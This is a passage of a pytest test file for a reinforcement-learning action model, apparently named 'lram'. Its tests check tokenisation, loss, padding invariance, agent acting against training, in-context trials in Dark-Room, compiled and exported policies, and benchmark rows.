    assert lram.action_rows(np.array([[-1.0, 1.0]]), 4).tolist() == [[18, 18 + 4 + 3]]
    assert lram.action_rows(np.array([[3]]))[0, 0].tolist() == [3]
    assert lram.action_rows(np.array([[-1.0, 1.0]])).tolist() == [[18, 18 + 256 + 255]]


def test_loss_against_torch():
    """Masked loss against F.cross_entropy pair by pair; soft targets against their explicit sum."""
    logits, target = torch.randn(3, 5, 2, 256).double(), torch.randint(256, (3, 5, 2))
    mask = torch.rand(3, 5, 2) > 0.4
    pairs = [F.cross_entropy(logits[b, c, a][None], target[b, c, a][None])
             for b, c, a in torch.nonzero(mask)]
    assert abs(lram.action_loss(logits, target, mask) - sum(pairs) / len(pairs)) < 1e-12
    soft, bins = 0.0, torch.arange(256).double()
    for b, c, a in torch.nonzero(mask):
        p = torch.exp(-0.5 * ((bins - target[b, c, a]) / 3.0) ** 2)
        soft = soft - (p / p.sum() * logits[b, c, a].log_softmax(-1)).sum() / len(pairs)
    assert abs(lram.action_loss(logits, target, mask, soft_sigma=3.0) - soft) < 1e-9


@pytest.mark.parametrize("backbone", lram.BACKBONES)
def test_right_padding_changes_nothing(backbone):
    """A short window in a longer batch: same logits and loss, no gradient from the padding."""
    model = small_model(backbone, dtype=torch.float64)
    obs, reward, rtg = (torch.randn(2, 20, 7).double(), torch.randn(2, 20).double(),
                        torch.randn(2, 20).double())
    padded = [x.clone() for x in (obs, reward, rtg)]
    for x in padded:
        x[1, 13:] = 1e6
    short, _ = model(obs[1:, :13], reward[1:, :13], rtg[1:, :13], 3)
    logits, _ = model(*padded, 3)
    assert relative(logits[1, :13], short[0]) < 1e-10
    mask = torch.ones(2, 20, 3, dtype=torch.bool)
    mask[1, 13:] = False
    target = torch.randint(256, (2, 20, 3))
    changed = target.clone()
    changed[1, 13:] = 7
    assert lram.action_loss(logits, target, mask) == lram.action_loss(logits, changed, mask)


def test_tokens_are_the_papers_stream():
    """[a_{t-1}, r_{t-1}, s_t, R_t] in this order, each from its own encoder, then one LayerNorm."""
    model = small_model("mlstm", tokens=("a", "r", "s", "rtg"))
    obs, reward, rtg = torch.randn(2, 4, 7), torch.randn(2, 4), torch.randn(2, 4)
    last = torch.randint(18, 100, (2, 4, 3))
    last[:, 0] = -1
    tokens = model.tokens(obs, reward, rtg, last)
    assert tokens.shape == (2, 4, 3 + 3, 32)
    wide = torch.cat([obs, torch.zeros(2, 4, 197)], -1)
    expected = [model.encode_reward(reward[..., None]), model.encode_state(wide),
                model.encode_rtg(rtg[..., None])]
    for j, x in enumerate(expected):
        assert torch.allclose(tokens[:, :, 3 + j], model.token_norm(x))
    assert torch.allclose(tokens[:, 2, 1],
                          model.token_norm(model.encode_action.weight[last[:, 2, 1]]))
    assert torch.allclose(tokens[:, 0, 0], model.token_norm(torch.zeros(2, 32)))


def test_tokens_keep_their_digits_under_autocast():
    """States, rewards and returns of 79 and 80 differ in bfloat16 as they do in float32."""
    model, C = small_model("mlstm"), torch.full((1, 1), 79.0)
    tokens = lambda x: model.tokens(x[..., None].expand(1, 1, 7), x, x)
    with torch.no_grad():
        exact = tokens(C + 1) - tokens(C)
        with torch.autocast("cpu", torch.bfloat16):
            rounded = tokens(C + 1) - tokens(C)
    for j in range(3):
        assert relative(rounded[:, :, j], exact[:, :, j]) < 1e-3, j


def test_image_encoder_is_impala():
    """Shapes of the three stages, uint8 scaled by 255, and the flattened width of the paper."""
    cnn = lram.ImpalaCNN(64)
    assert cnn.out.in_features == 2048
    image = torch.randint(0, 256, (3, 1, 64, 64), dtype=torch.uint8)
    assert cnn(image).shape == (3, 64)
    x = image.float() / 255
    for first, a, b, c, d in cnn.stages:
        x = F.max_pool2d(first(x), 3, 2, 1)
        x = x + b(a(x.relu()).relu())
        x = x + d(c(x.relu()).relu())
    assert torch.allclose(cnn(image), cnn.out(x.relu().flatten(1)).relu(), atol=1e-6)
    assert torch.equal(cnn(image.float() / 255), cnn(image))        # as it is, if standardised


def test_weight_decay_is_on_matrices_only():
    """Every parameter in one group, and none of the exempt ones in the decayed group."""
    for backbone in lram.BACKBONES:
        model = small_model(backbone)
        groups = model.parameter_groups(0.03)
        assert [g["weight_decay"] for g in groups] == [0.03, 0.0]
        decay, rest = (g["params"] for g in groups)
        assert len(decay) + len(rest) == len(list(model.parameters()))
        named = {id(p): n for n, p in model.named_parameters()}
        for p in decay:
            assert p.dim() >= 2 and not named[id(p)].endswith(("A_log", "bias", ".R")) and \
                "norm" not in named[id(p)]


def test_wide_observations_are_refused():
    """204 numbers are read, 205 would be cut."""
    model, scalar = small_model("mlstm"), torch.zeros(1)
    assert model.act(torch.zeros(1, 204), scalar, scalar, 2)[0].shape == (1, 2, 256)
    with pytest.raises(ValueError, match="have 205 numbers, the model reads at most 204"):
        model.act(torch.zeros(1, 205), scalar, scalar, 2)


def test_config_refuses_what_cannot_be():
    """With the valid choices in the message."""
    for options, words in (({"backbone": "lstm"}, "choose from"), ({"size": "7b"}, "choose from"),
                           ({"slstm_at": (9,)}, "numbered 0 to 3"),
                           ({"tokens": ("rtg", "s")}, "in this order"),
                           ({"backbone": "gpt", "size": "206m-half"}, "206m"),
                           ({"heads": 5}, None)):
        with pytest.raises(ValueError, match=words):
            lram.Backbone(lram.Config(**options))


# ------------------------------------------------------------------------------------------ acting
def dark_card(**changes):
    """A card as data.make would write it."""
    return {"task": "darkroom/train", "domain": "darkroom", "heldout": False,
            "observation": {"kind": "vector", "shape": [2]}, "action": {"kind": "discrete", "n": 5},
            "reward_scale": 1.0, "clip_rewards": False, "constant_rtg": False,
            "target_return": 30.0, "reference_score": 50.0, "random_score": 1.0,
            "state_mean": [4.0, 4.5], "state_std": [2.0, 3.0], **changes}


def play(model, card, seeds, agent=lram.Agent, **options):
    """Episodes of Dark-Room by an agent, two at a time, and the logits of every step."""
    agent, logits = agent(model, card, **options), []

    def policy(envs):
        agent.begin(envs.num_envs)

        def act(obs, reward, done, lost_life):
            action = agent.act(obs, reward, done, lost_life)
            logits.append(agent.logits)
            return action
        return act
    make = lambda: worlds.DarkRoom("train")
    return list(worlds.rollout(make, policy, seeds, num_envs=2)), torch.stack(logits, 1)


@pytest.mark.parametrize("backbone,tokens", (
    ("mlstm", "r,s,rtg"), ("mlstm", "s"), *((name, "a,r,s,rtg") for name in lram.BACKBONES)))
def test_acting_is_training(backbone, tokens, tmp_path):
    """Logits while acting equal those of training on the recorded episode, read back from its file.

    Recurrent backbones over the whole episode, gpt over its first C steps (stagger); window and
    stagger over the first C steps for all. Sampled actions, rewards, falling return-to-go,
    standardised observations.
    """
    context, tokens = 20, tokens.split(",")
    model = small_model(backbone, context, torch.float64, tokens=tokens, standardise=True,
                        dropout=0.5).train()        # an agent sees to it that nothing is dropped
    card = dark_card(target_return=11.0, reward_scale=4.0)     # whose sums are exact
    modes = ("carry", "window", "stagger") if backbone != "gpt" else ("window", "stagger")
    for mode in modes:
        (first, second), acted = play(model, card, [0, 3], context=mode, temperature=1.0)
        steps = 100 if mode == "carry" else context
        folder = tmp_path / mode / "darkroom" / "train"
        folder.mkdir(parents=True)
        (folder / "task.json").write_text(json.dumps(card))
        for row, episode in enumerate((first, second)):
            data.write_trajectory(folder / f"{row}.hdf5", episode.states, episode.actions,
                                  episode.rewards, False)
        mixture = data.Mixture(tmp_path / mode, ["darkroom/train"], standardise=True)
        for row, episode in enumerate((first, second)):
            # asked for the return that it got, an agent sees the recorded returns-to-go
            window = mixture.window((0, row, 100), 0, 100)
            collected = episode.rewards.sum() / 4 - window["rtg"]
            window["rtg"] = (11.0 / 4 - collected).astype(np.float32)
            inputs, _, _ = train.to_tensors(data.collate([window], 100), model.config, "cpu")
            for key in ("obs", "reward", "rtg", "last_action"):
                inputs[key] = inputs[key] if inputs[key] is None else inputs[key][:, :steps]
            with torch.no_grad():
                trained, _ = model(**inputs)
            assert relative(acted[row, :steps], trained[0]) < 1e-9, (mode, row)


@pytest.mark.parametrize("backbone", lram.BACKBONES)
def test_window_and_stagger_see_what_they_say(backbone):
    """Beyond C steps: window is the model on the last C steps, stagger on the last age + 1."""
    C, T = 6, 20
    model = small_model(backbone, C, torch.float64)
    card = dark_card()
    obs = np.random.RandomState(0).uniform(0, 9, (T, 1, 2)).astype(np.float32)
    rewards = np.random.RandomState(1).randint(0, 8, T) / 8     # exact in float32, however summed
    for mode in ("window", "stagger"):
        agent = lram.Agent(model, card, context=mode)
        agent.begin(1)
        for t in range(T):
            agent.act(obs[t], rewards[t:t + 1], np.array([t == 0]))
            if mode == "window":
                start = max(0, t - C + 1)
            else:           # restarts at 0, C, 2C, ... and at C/2, 3C/2, ...: the older one acts
                starts = [s for s in range(0, t + 1, C)][-1:] + \
                    [s for s in range(C // 2, t + 1, C)][-1:]
                start = min(starts)
            seen = np.concatenate([[0.0], rewards[1:t + 1]]).astype(np.float32)
            rtg = (30.0 - np.cumsum(seen)).astype(np.float32)
            piece = slice(start, t + 1)
            with torch.no_grad():
                logits, _ = model(torch.tensor(obs[piece, 0])[None],
                                  torch.tensor(seen[piece])[None],
                                  torch.tensor(rtg[piece])[None], 0)
            assert relative(agent.logits, logits[:, -1]) < 1e-9, (mode, t)


def trials_of(model, card, goals, trials, **options):
    """Several episodes in a row in each of some Dark-Rooms, remembered: episodes, logits."""
    played, logits = play(model, card, goals * trials, lram.InContextAgent, **options)
    return [played[k::len(goals)] for k in range(len(goals))], logits


@pytest.mark.parametrize("backbone", lram.BACKBONES)
def test_learning_in_context_is_training(backbone, tmp_path):
    """Logits of three trials in a row equal those of training on the file of all three: the
    window of everything so far (carry), or of the episode before and this one (pair). Only the
    present episode's return-to-go is the target that was asked for.
    """
    model = small_model(backbone, 200, torch.float64, tokens=("a", "r", "s", "rtg"),
                        standardise=True)
    goals = np.argsort(worlds.DarkRoom("train").goals.sum(1), kind="stable")[:2].tolist()   # near
    for mode in ("pair",) if backbone == "gpt" else ("carry", "pair"):
        histories, acted = trials_of(model, dark_card(target_return=11.0), goals, 3, context=mode,
                                     temperature=1.0, seed=4)
        folder = tmp_path / mode / "darkroom" / "histories"
        folder.mkdir(parents=True)
        (folder / "task.json").write_text(json.dumps(dark_card()))
        for row, played in enumerate(histories):
            rewards = np.stack([e.rewards for e in played])
            rtg = rewards[:, ::-1].cumsum(1)[:, ::-1]
            states, actions = (np.concatenate([getattr(e, key) for e in played])
                               for key in ("states", "actions"))
            data.write_trajectory(folder / f"{row}.hdf5", states, actions, rewards.ravel(),
                                  np.arange(300) % 100 == 99, rtg.ravel())
        assert any(e.rewards[:99].sum() for played in histories for e in played[:2])
        mixture = data.Mixture(tmp_path / mode, ["darkroom/histories"], standardise=True)
        for row, (trial, start) in itertools.product(range(2), ((0, 0), (1, 0), (2, 100))):
            start = 0 if mode == "carry" else start
            window = mixture.window((0, row, 300), start, 100 * (trial + 1) - start)
            last = histories[row][trial].rewards
            window["rtg"][-100:] = 11.0 - np.concatenate([[0.0], last[:-1].cumsum()])
            inputs, _, _ = train.to_tensors(data.collate([window], len(window["rtg"])),
                                            model.config, "cpu")
            with torch.no_grad():
                trained, _ = model(**inputs)
            here = slice(100 * trial, 100 * (trial + 1))
            assert relative(acted[row, here], trained[0, -100:]) < 1e-9, (mode, row, trial)


def test_in_context_agent_refuses():
    """A carried cache, and episodes of unequal length."""
    with pytest.raises(ValueError, match="'carry' with gpt: choose pair"):
        lram.InContextAgent(small_model("gpt"), dark_card(), context="carry")
    agent = lram.InContextAgent(small_model("mlstm"), dark_card())
    agent.begin(2)
    with pytest.raises(ValueError, match="1 of 2: play worlds of equal length"):
        agent.act(np.zeros((2, 2), np.float32), np.zeros(2), np.array([True, False]))


def test_trials_of_an_agent_that_knows(monkeypatch, capsys):
    """A script that walks to every goal: the optimum in each trial, by goal and trial."""
    class Knowing:
        def __init__(self, *_, **__):
            pass

        def begin(self, count):
            self.goals = worlds.DarkRoom("heldout").goals
            assert count == len(self.goals) == 20

        def act(self, obs, reward, done, lost_life):
            row, column = (self.goals - obs).T
            return np.where(row > 0, worlds.DarkRoom.DOWN,
                            np.where(column > 0, worlds.DarkRoom.RIGHT, worlds.DarkRoom.STAY))
    monkeypatch.setattr(lram, "InContextAgent", Knowing)
    played = worlds.play_trials(small_model("mlstm"), {"darkroom/heldout": dark_card()}, 3,
                                quiet=True)
    result = played["darkroom/heldout"]
    shortest = [101 - max(1, r + c) for r, c in worlds.DarkRoom("heldout").goals]
    assert np.array_equal(result["returns"], np.tile(shortest, (3, 1)).T)
    assert result["optimal"] == pytest.approx(np.mean(shortest))
    text = worlds.format_trials(played)
    assert "20 goals; random 1.0, optimal " in text and text.count("trial") == 3
    with pytest.raises(SystemExit, match="--trials plays Dark-Room, gym/CartPole-v1 is another"):
        worlds.play_trials(small_model("mlstm"), {"gym/CartPole-v1": dark_card()}, 1, quiet=True)
    with pytest.raises(SystemExit, match="gpt holds 20 steps, two trials are 200: train with"):
        worlds.play_trials(small_model("gpt"), {"darkroom/train": dark_card()}, 1, quiet=True)


@pytest.mark.parametrize("backbone", ("mlstm", "gpt"))
def test_a_lost_life_restarts_the_return_to_go_alone(backbone):
    """Logits are those of one window in which the second row's return-to-go begins anew at step 4;
    its state, its last action and the reward of that step run on.
    """
    model = small_model(backbone, 8, torch.float64, tokens=("a", "r", "s", "rtg"))
    card = dark_card(reward_scale=2.0, clip_rewards=True, target_return=6.0)
    agent, rng = lram.Agent(model, card), np.random.RandomState(0)
    obs, rewards = rng.uniform(0, 9, (7, 2, 2)).astype(np.float32), rng.randint(0, 3, (7, 2))
    rewards[4] = 2
    lost, acted, logits = np.zeros((7, 2), bool), [], []
    lost[4, 1] = True
    agent.begin(2)
    for t in range(7):
        acted.append(agent.act(obs[t], rewards[t], np.full(2, t == 0), lost[t]))
        logits.append(agent.logits)
    seen = np.minimum(rewards, 1) / 2                       # clipped, over the scale; none at first
    seen[0] = 0
    rtg = 3 - seen.cumsum(0)
    rtg[4:, 1] = 3 - (seen[4:, 1].cumsum() - seen[4, 1])
    last = np.concatenate([np.full((1, 2), -1), acted[:-1]])[..., None]     # (T, B, 1)
    obs, seen, rtg, last = (torch.tensor(x).transpose(0, 1) for x in (obs, seen, rtg, last))
    with torch.no_grad():
        whole, _ = model(obs, seen, rtg, 0, last)
    assert relative(torch.stack(logits, 1), whole) < 1e-6


@pytest.mark.parametrize("backbone", lram.BACKBONES)
def test_rows_of_an_agent_do_not_meet(backbone):
    """Two environments of which one ends early, against each played alone."""
    model, card = small_model(backbone, 6), dark_card()
    rng = np.random.RandomState(0)
    obs, reward = rng.uniform(0, 9, (15, 2, 2)).astype(np.float32), rng.uniform(0, 1, (15, 2))
    ends = np.zeros((15, 2), bool)
    ends[0], ends[7, 0], ends[11, 1] = True, True, True
    for mode in ("carry", "window", "stagger") if backbone != "gpt" else ("window", "stagger"):
        both = lram.Agent(model, card, context=mode)
        both.begin(2)
        alone = [lram.Agent(model, card, context=mode) for _ in range(2)]
        for t in range(15):
            together = both.act(obs[t], reward[t], ends[t])
            for row in range(2):
                if ends[t, row]:
                    alone[row].begin(1)
                some, end = slice(row, row + 1), ends[t, row]       # it has seen no reward yet
                action = alone[row].act(obs[t, some], reward[t, some] * (not end), ends[t, some])
                assert relative(both.logits[row:row + 1], alone[row].logits) < 1e-4
                assert action[0] == together[row]


@pytest.mark.skipif(not shutil.which("g++"), reason="needs a C++ compiler")
@pytest.mark.parametrize("backbone,weights", (
    ("mlstm", "float32"), ("mlstm", "int8"), ("xlstm", "float32"), ("mamba", "float32"),
    ("gpt", "bfloat16")))
def test_fast_policy_is_the_policy(backbone, weights):
    """Compiled against plain over 12 steps, one row reset: logits, states, no second compiling."""
    model = small_model(backbone, layers=1 if backbone in ("mamba", "gpt") else 2)
    fast = lram.FastPolicy(model, weights)
    state = fast_state = None
    compiled = torch._dynamo.utils.counters["stats"]
    for t in range(12):
        obs, reward, rtg = torch.randn(2, 39), *torch.randn(2, 2)
        rtg = reward if t == 0 else rtg         # one tensor while it compiles, two afterwards
        done = torch.tensor([t == 7, False])
        with torch.no_grad():
            logits, state = model.act(obs, reward, rtg, 4, state=state, done=done)
        ours, fast_state = fast.act(obs, reward, rtg, 4, state=fast_state, done=done)
        bar = {"float32": 1e-4, "bfloat16": 5e-2, "int8": 1e-1}[weights]
        assert relative(ours, logits) < bar, t
        assert weights != "float32" or all(relative(a, b) < bar for a, b in zip(
            flatten(fast_state), flatten(state)))
        graphs = compiled["unique_graphs"] if t == 0 else graphs
        assert compiled["unique_graphs"] == graphs
    # a state from before another sequence is copied; one that was overwritten is refused
    fresh, kept = (obs, reward, rtg, 4), [x.clone() for x in flatten(fast_state)]
    with torch.no_grad():
        expected, _ = model.act(*fresh, state=state)
    fast.act(*fresh)
    ours, after = fast.act(*fresh, state=fast_state)
    assert relative(ours, expected) < bar
    assert all(torch.equal(a, b) for a, b in zip(flatten(fast_state), kept))
    fast.act(*fresh, state=after)
    with pytest.raises(ValueError, match="overwritten by a later call; go on from the state that"):
        fast.act(*fresh, state=after)
    assert fast.compile_seconds > 0
    window = torch.randn(2, 3, 39), *torch.randn(2, 2, 3)
    if weights == "float32":            # not compiled: what Agent's window asks for
        assert relative(fast(*window, 6)[0], model(*window, 6)[0]) < 1e-4
    narrow = [m for m in fast.model.backbone.modules() if isinstance(m, lram.NarrowLinear)]
    # up and down of two blocks; qkv, up and down of one (`out` is too small)
    assert len(narrow) == {"float32": 0, "int8": 4, "bfloat16": 3}[weights]


@pytest.mark.skipif(not shutil.which("g++"), reason="needs a C++ compiler")
def test_fast_policy_refuses(monkeypatch):
    """Unknown weights; and a compiled policy that is wrong is never acted on."""
    model = small_model("mlstm")
    with pytest.raises(ValueError, match="'int4' do not exist; choose float32, bfloat16 or int8"):
        lram.FastPolicy(model, "int4")
    fast = lram.FastPolicy(model)
    with pytest.raises(ValueError, match="the state has 1 rows, the inputs have .2, 2, 2."):
        fast.act(torch.randn(2, 39), *torch.zeros(2, 2), 4, state=model.backbone.initial_state(1))
    other = small_model("mlstm", heads=8).backbone.initial_state(1)
    with pytest.raises(ValueError, match="not one of this model"):
        fast.act(torch.randn(1, 39), *torch.zeros(2, 1), 4, state=other)

    def forgets(step, **options):
        """A compiled step that is right once: it loses the state."""
        def run(*args):
            logits = step(*args)
            for part in args[5]:
                part[0].zero_()
            return logits
        return run
    for wrong in (lambda step, **options: lambda *args: step(*args) + 1, forgets):
        monkeypatch.setattr(torch, "compile", wrong)
        with pytest.raises(RuntimeError, match="off by .* from the plain one"):
            fast.act(torch.randn(1, 39), *torch.ones(2, 1), 4)
    # nor is one whose own forms are wrong, although they were compiled rightly
    right = lram._folded_gate
    monkeypatch.setattr(torch, "compile", lambda step, **options: step)
    monkeypatch.setattr(lram, "_folded_gate", lambda *args: right(*args) + 1)
    with pytest.raises(RuntimeError, match="off by .* from the plain one"):
        lram.FastPolicy(model).act(torch.randn(1, 39), *torch.ones(2, 1), 4)


@pytest.mark.skipif(not shutil.which("g++"), reason="needs a C++ compiler")
def test_fast_policy_packs_what_it_uses():
    """int8: up and down of a block, and neither of the gates' two forms."""
    packed = len(lram.PACKED)
    fast = lram.FastPolicy(lram.LRAM(lram.Config("mlstm", layers=2)), "int8")
    narrow = [m for m in fast.model.modules() if isinstance(m, lram.NarrowLinear)]
    assert len(narrow) == len(lram.PACKED) - packed == 4


class Live(TorchDispatchMode):
    """Counts the tensors of `numel` elements that are alive, and the most at once, in `peak`."""

    def __init__(self, numel):
        super().__init__()
        self.numel, self.alive, self.peak = numel, set(), 0

    def __torch_dispatch__(self, function, types, args=(), kwargs=None):
        out = function(*args, **(kwargs or {}))
        self.alive |= {StorageWeakRef(x.untyped_storage()) for x in tree_leaves(out)
                       if torch.is_tensor(x) and not x.is_meta
                       and x.untyped_storage().nbytes() == 4 * self.numel}
        self.alive = {ref for ref in self.alive if not ref.expired()}
        self.peak = max(self.peak, len(self.alive))
        return out


@pytest.mark.skipif(not shutil.which("g++"), reason="needs a C++ compiler")
def test_fast_policy_compiles_in_the_memory_of_two_states(monkeypatch):
    """Around the compiled step: the caller's state and the trial's, and one block's part twice."""
    fast = lram.FastPolicy(small_model("mlstm", layers=3))
    live = Live(5 * 4 * 16 * 16)            # C of a block, 5 rows

    def uncounted(step, **options):
        def run(*args):
            with torch.utils._python_dispatch._disable_current_modes():
                return step(*args)
        return run
    monkeypatch.setattr(torch, "compile", uncounted)
    with live:
        fast.act(torch.randn(5, 39), *torch.ones(2, 5), 3)
    assert live.peak == 2 * 3 + 1


COMPILED = pytest.param("mlstm", False, True, marks=pytest.mark.skipif(
    not shutil.which("g++"), reason="needs a C++ compiler"))


@pytest.mark.parametrize("backbone,image,compiled", (
    ("mlstm", False, False), ("xlstm", True, False), ("slstm", False, False),
    ("mamba", True, False), ("gpt", False, False), COMPILED))
def test_exported_policy_is_the_agent(backbone, image, compiled, tmp_path, monkeypatch):
    """A written file, read without pickle, against the Agent: two episodes of random observations,
    with lives that are lost.

    Continuous actions with tokens for them and a falling return-to-go, or images, 5 of 18 actions,
    clipped rewards (and for mamba a constant return-to-go); five windows of gpt.
    """
    model = small_model(backbone, 6, tokens=(*([] if image else ["a"]), "r", "s", "rtg"),
                        standardise=not image, layers=1 if compiled else 2)
    card = dark_card(
        observation={"kind": "image", "shape": [1, 64, 64]} if image else
        {"kind": "vector", "shape": [2]}, clip_rewards=image, constant_rtg=backbone == "mamba",
        action={"kind": "discrete", "n": 5} if image else {"kind": "continuous", "dims": 3},
        reward_scale=5.0)
    agent, path, rng = lram.Agent(model, card), tmp_path / "policy.pt2", np.random.default_rng(0)
    lram.export_policy(agent, path, compiled)
    with monkeypatch.context() as patch:
        patch.setattr(torch, "load", None)
        patch.setattr(pickle, "loads", None)
        policy = worlds._Exported(path, compiled)
    agent.begin(1)
    for t in range(50):
        first = t in (0, 33)
        obs = rng.integers(0, 256, (1, 1, 64, 64), np.uint8) if image else \
            rng.normal(4, 3, (1, 2)).astype(np.float32)
        reward = np.zeros(1) if first else rng.normal(1, 2, 1)
        if first:
            policy.begin(1)
        lost = np.array([t in (20, 21, 40)])
        action, ours = (x.act(obs, reward, np.array([first]), lost) for x in (agent, policy))
        bar = 1e-4 if compiled else 1e-5
        assert relative(policy.logits, agent.logits[..., :policy.logits.shape[-1]]) < bar, t
        assert np.array_equal(ours, action) and ours.dtype == action.dtype, t


def test_export_command(tmp_path, monkeypatch, capsys):
    """The command, then README's lines with nothing but torch; a wrong file is never written."""
    model, card, path = small_model("xlstm"), dark_card(), tmp_path / "reach.pt2"
    lram.save_checkpoint(tmp_path / "c.pt", {
        "model": model.state_dict(), "model_config": asdict(model.config),
        "cards": {"darkroom/train": card, "darkroom/heldout": card}})
    command = partial(worlds.Args, tmp_path / "c.pt", ("darkroom/train",), export=path)
    worlds.main(command(context="stagger"))
    assert "actions agree 100.0 %" in capsys.readouterr().out
    (lines,) = re.findall(r"```python\n(.*?)```", (REPOSITORY / "README.md").read_text(), re.S)
    lines += """
import sys
from eval import DarkRoom
class Robot(DarkRoom):
    def reset(self):
        self.actions = []
        return super().reset(seed=3)
    def step(self, action):
        self.actions.append(int(action))
        return super().step(action)
policy, start = load("reach.pt2")
robot = Robot()
for _ in range(2):
    control(robot, policy, start)
    print(robot.actions)
assert not {"lram", "h5py", "tyro"} & set(sys.modules)
"""
    done = run("-c", lines, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    (episode,), _ = play(model, card, [3], context="stagger")
    assert done.stdout.splitlines() == [str(episode.actions.tolist())] * 2
    before, right = path.read_bytes(), lram.export_policy
    other = lram.Agent(small_model("xlstm"), card)
    monkeypatch.setattr(lram, "export_policy", lambda agent, *rest: right(other, *rest))
    with pytest.raises(SystemExit, match="is not the plain one: .*; nothing written"):
        worlds.main(command())
    for change, words in (
            ({"tasks": ()}, "one task's policy"), ({"export": tmp_path / "x.onnx"}, "named .pt2"),
            ({"weights": "int8"}, "float32"), ({"context": "window"}, "leave out")):
        with pytest.raises(SystemExit, match=words):
            monkeypatch.setattr(lram, "export_policy", right)
            worlds.main(replace(command(), **change))
    assert path.read_bytes() == before and sorted(os.listdir(tmp_path)) == ["c.pt", "reach.pt2"]
    gpt_agent = lram.Agent(small_model("gpt"), card, context="carry")
    with pytest.raises(ValueError, match="leave out --temperature and --context carry"):
        lram.Controller(gpt_agent)


def test_memory_of_a_cuda_graph(monkeypatch):
    """A graph reads and writes fixed memory: every call's inputs and state must get there and back,
    and no agent acts on the state of another.

    The graph is a stand-in that runs the captured step again, on a CPU.
    """
    model, calls = small_model("xlstm"), []
    fast = lram.FastPolicy(model)

    def step(*args):
        calls.append((args, fast._step(*args)))
        return calls[-1][1]

    class Graph:
        def replay(self):
            args, logits = calls[-1]
            logits.copy_(fast._step(*args))

    for name in ("Stream", "current_stream", "stream", "graph"):
        monkeypatch.setattr(torch.cuda, name, mock.MagicMock())
    monkeypatch.setattr(torch.cuda, "CUDAGraph", Graph)
    own = lambda x: x.clone() if torch.is_tensor(x) else x
    monkeypatch.setattr(fast, "_compile", lambda *args: fast._captured(
        step, (*map(own, args[:5]), fast.own_state(args[5]), own(args[6]))))
    state = ours = None
    for t in range(8):
        obs, scalar, done = torch.randn(2, 39), torch.randn(2), torch.tensor([t == 5, False])
        if t == 3:                  # a state from elsewhere
            ours = state
        with torch.no_grad():
            truth, state = model.act(obs, scalar, scalar, 4, None, state, done)
        logits, ours = fast.act(obs, scalar, scalar, 4, None, ours, done)
        assert relative(logits, truth) < 1e-5, t
    kept = fast.own_state(ours)
    fast.act(-obs, scalar, scalar, 4)       # another agent
    with pytest.raises(ValueError, match="overwritten by a later call"):
        fast.act(obs, scalar, scalar, 4, state=ours)
    with torch.no_grad():
        truth, _ = model.act(obs, scalar, scalar, 4, None, state)
    assert relative(fast.act(obs, scalar, scalar, 4, state=kept)[0], truth) < 1e-5


# --------------------------------------------------------------------------------- the measurements
@pytest.mark.parametrize("backbone", lram.BACKBONES)
def test_token_by_token_is_the_same_step(backbone):
    """The lowest rung of the ladder gives the same logits as three tokens at once."""
    args = bench.Args(device=torch.device("cpu"))
    model = small_model(backbone)
    loop, chunk = (bench.outputs(act, args, 3) for act in (
        bench.token_loop(model), bench.stepper(model)))
    assert loop.shape == (8, 3, 4, 256) and relative(loop, chunk) < 1e-5


def test_bench_counts_steps_and_deadlines():
    """Warm-up is dropped, every other step counted once; percentiles and misses of known times."""
    seen, between = [], []

    def act(obs, scalar, state):
        seen.append(state)
        return torch.zeros(1, 4, 256), len(seen)
    args = bench.Args(device=torch.device("cpu"), steps=30)
    times = bench.act_times(act, args, between=lambda t, s: between.append(t) or s)
    assert len(times) == 30 and seen == [None, *range(1, 50)] and between == list(range(50))
    restarted = []
    bench.act_times(lambda obs, scalar, state: (restarted.append(state), torch.zeros(1, 4, 256), 1
                                                )[1:], args, between=bench.restart(20))
    assert [t for t, state in enumerate(restarted) if state is None] == [0, 20, 40]
    row = bench.percentiles(np.array([1.0] * 90 + [6.0] * 6 + [11.0] * 3 + [25.0]))
    assert row["missed"] == {50: 1, 100: 4, 200: 10} and row["max_ms"] == 25
    assert (row["median_ms"], row["p95_ms"], row["steps"]) == (1, 6, 100)


class NotCompiled(lram.LRAM):
    """Takes FastPolicy's place where a test would wait for a compiler."""

    def __new__(cls, model, weights="float32"):
        model.own_state, model.compile_seconds = lambda state: state, 0.0
        return model


def test_bench_modes(monkeypatch, capsys, tmp_path):
    """Every mode's rows, without compiling: what they say of bytes, steps and rates is true."""
    monkeypatch.setattr(bench, "FastPolicy", NotCompiled)
    monkeypatch.setattr(torch, "compile", lambda function, **options: function)
    options = dict(backbones=("mlstm", "gpt"), batches=(1, 2), contexts=(2, 4, 300), steps=3,
                   peers="no", env="darkroom/train", output=tmp_path / "rows.json")
    results = {}
    for mode in ("acting", "latency", "throughput", "ladder", "heads", "env"):
        flags = {"env": None, **({} if mode in ("acting", "env") else {mode: True})}
        bench.main(bench.Args(**{**options, **({} if mode == "env" else flags)}))
        last = capsys.readouterr().out.splitlines()[-1]
        results[mode] = json.loads(last)
        assert json.loads((tmp_path / "rows.json").read_text()) == results[mode]
        assert results[mode]["mode"] == mode and results[mode]["bandwidth"] > 1e8
        assert all(row["steps"] == 3 and row["median_ms"] > 0 for row in results[mode]["rows"])
        (tmp_path / f"{mode}.json").write_text(last)
    size = {(r["backbone"], r["batch"], r["context"]): r["state_bytes"]
            for r in results["latency"]["rows"]}
    for batch in (1, 2):
        assert len({size["mlstm", batch, C] for C in (2, 4, 300)}) == 1
        # keys and values of 2 layers, 3 tokens a step, 96 numbers each; three counters
        assert size["gpt", batch, 300] == batch * (4 * 2 * 2 * 3 * 300 * 96 + 3 * 8)
    for row in results["throughput"]["rows"]:
        assert row["per_second"] == pytest.approx(1e3 * row["batch"] / row["median_ms"])
    assert all(row["error"] < 1e-5 for row in results["ladder"]["rows"])
    assert {row["heads"] for row in results["heads"]["rows"]} == {4, 8, 16}     # 32 do not fit
    bench.main(bench.Args(draw=(tmp_path / "latency.json", tmp_path / "ladder.json"),
                          output=tmp_path / "speed.png"))
    assert (tmp_path / "speed.png").read_bytes()[1:4] == b"PNG"
    with pytest.raises(SystemExit, match="choose one"):
        bench.main(bench.Args(latency=True, ladder=True))


def test_claims_are_decided_by_their_rule():
    """Student's interval of (1, 2, 3) by hand, 2 +- 4.30 / sqrt(3), and the verdicts around it."""
    mean, low, high = bench.interval([1.0, 2.0, 3.0])
    assert mean == 2 and high - 2 == pytest.approx(2.4841, abs=1e-3) == 2 - low
    assert bench.interval([0.7]) == (0.7, 0.7, 0.7)
    assert [bench.verdict(values, margin) for values, margin in (
        ([1, 2, 3], 0), ([1, 2, 3], 0.5), ([4, 5, 6], 0), ([-6, -5, -4], 0), ([-6, -5, -4], 8),
